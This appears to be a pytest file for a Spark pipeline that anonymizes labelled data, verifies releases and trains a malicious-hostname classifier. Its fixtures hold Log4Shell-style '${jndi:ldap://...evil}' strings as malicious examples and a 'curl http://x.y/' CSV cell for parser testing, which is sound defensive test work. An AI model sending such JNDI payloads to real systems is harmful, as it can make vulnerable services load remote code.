"""Release jobs from private files to model inputs."""

from __future__ import annotations

import json

import pytest

from axisflow.operators import metrics
from axisflow.plans import jobs


@pytest.fixture(scope="module")
def release(spark, tmp_path_factory):
    d = tmp_path_factory.mktemp("release")
    (d / "private").mkdir()
    head = "ROW_ID,HOSTNAME,DATASET_FAMILY,RESOLVED_LABEL_BOTH_M,PUBLIC_CCD_SCORE,PUBLIC_CCD_FLAG,PUBLIC_CALIBRATION_GROUP"
    lines = [f"r{i},host{i}.corp-{i % 7}.example.com,dns_hostnames,{'M' if i % 3 == 0 else 'B'},{i / 200},{'true' if i % 3 == 0 else 'false'},g{i % 2}" for i in range(150)]
    (d / "private" / "a.csv").write_text("\n".join([head, *lines]) + "\n")
    (d / "private" / "b.csv").write_bytes(b'CONTENT,ROW_ID,RESOLVED_LABEL_BOTH_M\n"curl http://x.y/\xff, ""z""\nsecond line",c1,M\nplain,c2,\n')
    (d / "keys.yaml").write_text("# keys\nrow_id_secret: 'a'\nartifact_secret: b\nshuffle_secret: \"c\"\nrelease_version: v7\n")
    secrets = jobs.load_secrets(str(d / "keys.yaml"))
    manifest = jobs.anonymize(spark, str(d / "private"), str(d / "public"), secrets, str(d / "audit"))
    return d, secrets, manifest


def test_secrets(tmp_path):
    (tmp_path / "k.json").write_text(json.dumps({"row_id_secret": "a", "artifact_secret": "b"}))
    s = jobs.load_secrets(str(tmp_path / "k.json"), shuffle_secret="c", artifact_secret="own")
    assert (s.row_id, s.artifact, s.order) == ("a", "own", "c") and "own" not in repr(s)
    with pytest.raises(ValueError, match="shuffle_secret"):
        jobs.load_secrets(str(tmp_path / "k.json"))


def test_private_files_of_different_headers(spark, release):
    rows = jobs.read_private(spark, str(release[0] / "private")).orderBy("ord").collect()
    assert [r["ord"] for r in rows] == list(range(152)) and [r["ROW_ID"] for r in rows[-2:]] == ["c1", "c2"]
    assert rows[150]["CONTENT"] == 'curl http://x.y/�, "z"\nsecond line' and rows[150]["HOSTNAME"] is None and rows[0]["CONTENT"] is None


def test_release_and_verification(spark, release):
    d, secrets, manifest = release
    assert manifest["n_public_rows"] == 152 and manifest["release_version"] == "v7" and len(list((d / "audit").glob("*.json"))) == 10
    lines = [json.loads(x) for p in sorted((d / "public").glob("part-*")) for x in p.read_text().splitlines()]
    assert len(lines) == 152 and all(list(x) == sorted(x) for x in lines) and "ccd_flag" not in next(x["ccd_outputs"] for x in lines if x["ccd_outputs"]["ccd_score_bin"] == "not_recomputed")
    again = jobs.anonymize(spark, str(d / "private"), str(d / "again"), secrets)
    assert again == manifest and sorted(x.read_text() for x in (d / "again").glob("part-*")) == sorted(x.read_text() for x in (d / "public").glob("part-*"))
    told = jobs.verification(spark, str(d / "private"), str(d / "public"), secrets, min_k=1)
    assert told["sections"]["rows"]["n_matched"] == 152 and told["sections"]["rows"]["status"] == told["sections"]["uniqueness"]["status"] == told["sections"]["privacy"]["status"] == "pass"
    assert jobs.verification(spark, str(d / "private"), str(d / "public"), jobs.load_secrets(None, row_id_secret="x", artifact_secret="b", shuffle_secret="c"))["status"] == "fail"


def test_metrics_document(spark, release):
    d, *_ = release
    told = jobs.metrics_document(spark, str(d / "public"), alpha=0.2)
    assert told["label_accounting"]["n_rows"] == 152 and sum(told["counts"]["split"].values()) == 152
    flags = told["released_flag_replay"]
    assert flags["fp"] == 0 and flags["tp"] + flags["fn"] + flags["tn"] > 0 and told["counts"]["effective_source"]["released"] == 150
    assert set(told["calibration"]["grouped_thresholds"]) <= {"g0", "g1"} and told["fixed_fpr_replay"]["status"] == "available"


def test_export(spark, release, tmp_path):
    d, *_ = release
    rows = [(f"row_{i}", f"h{i}.test", f"h{i}.test", "dns", "w", s, label, "e", f"sink {i % 2}", "none", "w", "w", ("b", None, None, g), "x") for i, (s, label, g) in enumerate([(s, x, "g1") for s in ("train", "calibration", "test", "validation") for x in (metrics.NEGATIVE, metrics.POSITIVE, metrics.UNRESOLVED)] * 3)]
    df = spark.createDataFrame(rows, jobs.RELEASE)
    jobs.write_release(df, str(tmp_path / "r"))
    told = jobs.export(spark, str(tmp_path / "r"), str(tmp_path / "o"))
    assert told["files"] == {"benign": 3, "malicious": 3, "benign_calibration": 3, "benign_calibration_groups": 3, "queries": 12, "query_groups": 12, "query_labels": 12, "recent_benign_window": 3, "recent_benign_window_groups": 3}
    read = lambda k: [x for p in sorted((tmp_path / "o" / k).glob("part-*")) for x in p.read_text().splitlines()]
    assert len(read("queries")) == 12 and "h1.test,sink_1" in read("malicious") and json.loads("\n".join(read("manifest")))["files"] == told["files"]
    jobs.write_release(df.filter("split <> 'train'"), str(tmp_path / "r2"))
    with pytest.raises(ValueError, match="benign, malicious"):
        jobs.export(spark, str(tmp_path / "r2"), str(tmp_path / "o2"))
    part = spark.createDataFrame([r if i else (*r[:12], ("b", None, None, None), "x") for i, r in enumerate([x for x in rows if x[5] != "calibration"] + [x for x in rows if x[5] == "calibration"])], jobs.RELEASE)
    mixed = part.unionByName(spark.createDataFrame([("row_x", "q.test", "q.test", "dns", "w", "test", metrics.POSITIVE, "e", "s", "none", "w", "w", ("b", None, None, None), "x")], jobs.RELEASE))
    jobs.write_release(mixed, str(tmp_path / "r3"))
    with pytest.raises(ValueError, match="calibration group"):
        jobs.export(spark, str(tmp_path / "r3"), str(tmp_path / "o3"))


def test_commands(spark, release, tmp_path):
    d, *_ = release
    jobs.main(["metrics", "--release", str(d / "public"), "--out", str(tmp_path / "m.json"), "--alpha", "0.2"])
    assert json.loads((tmp_path / "m.json").read_text())["calibration"]["alpha"] == 0.2
    jobs.main(["repair", "--release", str(d / "public"), "--out", str(tmp_path / "fixed")])
    assert jobs.read_release(spark, str(tmp_path / "fixed")).count() == 152
    with pytest.raises(SystemExit):
        jobs.main(["verify", "--private", str(d / "private"), "--release", str(d / "public"), "--out", str(tmp_path / "v.json"), "--config", str(d / "keys.yaml")])
    assert json.loads((tmp_path / "v.json").read_text())["sections"]["access_patterns"]["status"] == "fail"


def test_grouped_scoring_by_commands(spark, tmp_path):
    from axisflow.plans import cli

    put = lambda name, lines: (tmp_path / name).write_text("\n".join(lines) + "\n") and str(tmp_path / name)
    benign = put("benign.txt", [f"host{i}.example.com" for i in range(40)])
    bad = put("bad.csv", ["hostname,family", *(f"${{jndi:ldap://x{i}.evil}},jndi" for i in range(20))])
    groups = put("groups.txt", [f"g{i % 2}" for i in range(40)])
    model = str(tmp_path / "model")
    cli.main(["train-priors", "--model", model, "--benign", benign, "--malicious", bad, "--dim", "16", "--cones", "32", "--alpha", "0.1"])
    cli.main(["calibrate", "--model", model, "--hosts", benign, "--groups", groups, "--approximate", "4"])
    with pytest.raises(SystemExit, match="groups"):
        cli.main(["score", "--model", model, "--hosts", benign, "--out", str(tmp_path / "s0")])
    cli.main(["score", "--model", model, "--hosts", benign, "--groups", groups, "--out", str(tmp_path / "s"), "--no-idna", "--unicode-form", "NFC"])
    rows = spark.read.option("header", True).csv(str(tmp_path / "s"))
    assert rows.columns == ["hostname", "calibration_group", "threshold", "score", "prediction"] and rows.count() == 40
    assert rows.select("calibration_group", "threshold").distinct().count() == 2
    cli.main(["refresh-benign", "--model", model, "--hosts", benign, "--groups", groups])
    cli.main(["explain", "--model", model, "--hosts", benign, "--out", str(tmp_path / "e"), "--top", "2"])
    assert spark.read.json(str(tmp_path / "e")).count() == 80
    cli.main(["embed", "--hosts", benign, "--out", str(tmp_path / "v"), "--dim", "3", "--no-normalize"])
    vectors = spark.read.option("header", True).csv(str(tmp_path / "v"))
    assert vectors.columns == ["hostname", "e0", "e1", "e2"] and vectors.count() == 40 and len(vectors.first()["e0"].lstrip("-")) == 8


def test_items_with_hooks(spark):
    from pyspark.sql import functions as F

    from axisflow.operators import labels

    df = spark.createDataFrame([("user_logins", "Bob", "h", "M"), ("dns", "u", "H.example", "B"), ("dns", "u", None, "?")], "f string, u string, h string, l string")
    got = labels.items(df, F.col("f"), F.col("u"), F.col("h"), F.col("l"), ["f"], F.lower, lambda t: t * 10).collect()
    assert [(r["text"], r["label"], r["target"], r["metadata"]["f"]) for r in got] == [("bob", "M", 10, "user_logins"), ("h.example", "B", 0, "dns"), (None, "U", -10, "dns")]
